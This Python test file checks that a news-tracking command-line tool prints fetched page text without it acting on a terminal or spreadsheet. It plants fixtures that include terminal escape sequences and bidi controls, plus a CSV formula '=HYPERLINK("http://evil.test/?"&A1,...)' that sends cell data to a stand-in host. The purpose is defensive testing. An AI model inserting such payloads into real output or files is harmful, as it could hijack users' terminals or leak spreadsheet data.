"""What a page says reaches a person's terminal, and a program's pipe, without acting on either."""
import csv
import io
import json
import os
import pty
import re
import socket
import sqlite3
import subprocess
import threading
import unicodedata
import unittest

from harness import PATIENCE, EndToEnd, watching

# Sets the window's title, clears the screen, rings; reorders; hides; C1; tags; annotation.
HOSTILE = ("a\x1b]0;owned\x07\x1b[2J\x08\x7f\x85\x9b31m\u202e\u2066\u200f\u200b\u061c\u180e\u2028\ufff9x\ufffb"
           "\ufeff\U000E0041\U000E007F end")
# Sends a cell to a server when it is clicked, with a line end and an escape sequence in it.
FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"\u202eclick")\r\x1b[1m'


def acts(character):
    """Unicode's categories of control, format and separating characters."""
    return unicodedata.category(character) in ("Cc", "Cf", "Zl", "Zp")


class HostileServer:
    """Answers everything with bytes that no header may hold."""

    def __init__(self):
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self.socket.getsockname()[1]}/"
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            with connection:
                connection.recv(65536)
                connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length: 2\r\n"
                                   b"X-C1: a\xc2\x9b31m\r\nX-Raw: a\xff\xfe\x9bz\r\nX-Bidi: " + "\u202e\u2066".encode() + b"\r\n\r\nok")

    def close(self):
        self.socket.close()


class Terminal(EndToEnd):
    def setUp(self):
        super().setUp()
        self.server = HostileServer()
        self.addCleanup(self.server.close)
        extra = f"""\
  - name: hostile
    start: ["{self.server.url}"]
    poll: 1d
    allow_networks: ["127.0.0.0/8"]
"""
        self.live = self.started(watching(self.newsroom, extra=extra))
        self.wait_for_baseline(self.live)
        for _ in range(5):
            self.play(self.live)

    def on_terminal(self, *arguments):
        """Standard output of a command that believes to stand before a person."""
        leader, follower = pty.openpty()
        process = subprocess.Popen([self.live.binary, *arguments, "--config", self.live.config], stdout=follower,
                                   stderr=subprocess.PIPE, stdin=subprocess.DEVNULL)
        os.close(follower)
        out = bytearray()
        try:
            while block := os.read(leader, 65536):
                out += block
        except OSError:  # the other end is closed
            pass
        os.close(leader)
        process.communicate(timeout=PATIENCE)
        return out.decode().replace("\r\n", "\n"), process.returncode

    def piped(self, *arguments):
        command = [self.live.binary, *arguments, "--config", self.live.config]
        return subprocess.run(command, capture_output=True, timeout=PATIENCE).stdout

    def tamper(self):
        """Puts hostile text wherever a page's text is kept."""
        with sqlite3.connect(self.live.database) as db:
            for row, number, text in db.execute("SELECT row, number, record FROM revisions").fetchall():
                record = json.loads(text)
                record["headline"] = (HOSTILE if number == 1 else FORMULA)
                record["description"] = record["siteName"] = HOSTILE
                for block in record["body"]:
                    block["text"] = f"{HOSTILE} {number} {block['text']}"
                db.execute("UPDATE revisions SET record = ? WHERE row = ?", (json.dumps(record, ensure_ascii=False), row))
            for seq, text in db.execute("SELECT seq, data FROM events").fetchall():
                data = json.loads(text)
                data["article"]["headline"] = HOSTILE
                db.execute("UPDATE events SET data = ? WHERE seq = ?", (json.dumps(data, ensure_ascii=False), seq))
            db.execute("UPDATE visits SET detail = ?", (HOSTILE,))
            db.execute("UPDATE frontier SET found_on = ?", (HOSTILE,))
            db.execute("UPDATE checks SET due_reason = ?", (HOSTILE,))
            db.execute("UPDATE sources SET title = ?", (HOSTILE,))
        db.close()

    def assert_harmless(self, text, arguments):
        found = sorted({f"U+{ord(c):04X}" for c in text if acts(c) and c != "\n"})
        self.assertEqual(found, [], arguments)

    def test_every_command_and_format(self):
        edited = self.live.count("SELECT id FROM articles WHERE head_revision > 1 LIMIT 1")
        url = self.live.count("SELECT url FROM frontier WHERE kind = 'article' LIMIT 1")
        self.live.stop()
        self.tamper()
        page = self.folder / "page.html"
        page.write_text(f"<title>{HOSTILE}</title><h1>{HOSTILE}</h1><article>" + f"<p>{HOSTILE}, a sentence of some length, with commas.</p>" * 9)
        feed = self.folder / "feed.json"
        feed.write_text(json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": HOSTILE,
                                    "items": [{"id": "1", "url": "http://a.test/1", "title": HOSTILE}]}))
        text = self.folder / "text"
        text.write_text(HOSTILE)
        for arguments in (
            ["articles"], ["articles", "--format", "csv"], ["articles", "--format", "json"],
            ["show", edited], ["show", edited, "--format", "json"], ["show", edited, "--format", "jsonld"],
            ["diff", edited, "--color", "never"], ["diff", edited, "--format", "html"], ["diff", edited, "--format", "json"],
            ["events"], ["status"], ["status", "--format", "json"], ["sources", "list"], ["explain", url],
            ["explain", url, "--format", "json"], ["verify"], ["parse", "article", str(page)], ["parse", "feed", str(feed)],
            ["match", "--query", "end OR owned", "--mode", "fold", str(text)],
        ):
            with self.subTest(arguments):
                shown, status = self.on_terminal(*arguments)
                self.assertTrue(shown.strip(), arguments)
                self.assert_harmless(shown.replace("\t", "") if arguments[0] == "match" else shown, arguments)
                piped = self.piped(*arguments).decode()
                if arguments[0] != "status" and ("json" in arguments or "jsonld" in arguments) or arguments[0] in ("events", "parse"):
                    values = [json.loads(line) for line in piped.rstrip("\n").split("\n")]
                    self.assertEqual([json.loads(line) for line in shown.rstrip("\n").split("\n")], values, "the same values, written otherwise")

        colours = re.sub("\x1b\\[(?:31|32|0)m", "", self.on_terminal("diff", edited, "--color", "always")[0])
        self.assert_harmless(colours, "only our own colours")
        # What programs read is as it was stored.
        self.assertIn("\u202e", self.piped("articles", "--format", "json").decode())
        self.assertIn("\u202e", self.piped("diff", edited, "--format", "html").decode())

    def test_the_raw_page(self):
        article, row = self.live.rows("SELECT a.id, r.capture FROM articles a JOIN revisions r ON r.article = a.row WHERE r.number = 1 AND a.head_revision = 1 LIMIT 1")[0]
        self.live.stop()
        raw = self.piped("show", article, "--raw")
        self.assertIn(b"<h1", raw)
        shown, _ = self.on_terminal("show", article, "--raw")
        self.assertEqual(shown.rstrip("\n"), raw.decode().replace("\r\n", "\n").rstrip("\n"), "a harmless page is shown as it is")

    def test_cells_that_a_spreadsheet_would_compute(self):
        self.live.stop()
        self.tamper()
        for text in (self.piped("articles", "--format", "csv").decode(), self.on_terminal("articles", "--format", "csv")[0]):
            rows = list(csv.DictReader(io.StringIO(text, newline="")))
            formulas = [row["headline"] for row in rows if "HYPERLINK" in row["headline"]]
            self.assertTrue(formulas)
            for cell in formulas:
                self.assertTrue(cell.startswith("'=HYPERLINK("), cell)
            for row in rows:
                self.assertEqual(len(row), 9, row)
                self.assertNotIn(None, row.values(), "a lone CR ends no line")
        self.assertIn("\r", self.piped("articles", "--format", "csv").decode(), "and stays in what is piped")

    def test_header_values_of_a_fetch(self):
        piped = self.piped("fetch", self.server.url)
        exchange = json.loads(piped.decode("utf-8", errors="strict"))
        self.assertEqual(exchange["headers"]["X-Raw"], "a\ufffd\ufffd\ufffdz")
        self.assertEqual(exchange["headers"]["X-C1"], "a\u009b31m")
        shown, status = self.on_terminal("fetch", self.server.url)
        self.assertEqual(status, 0)
        self.assert_harmless(shown, "fetch")
        self.assertEqual(json.loads(shown)["headers"], exchange["headers"])


if __name__ == "__main__":
    unittest.main()
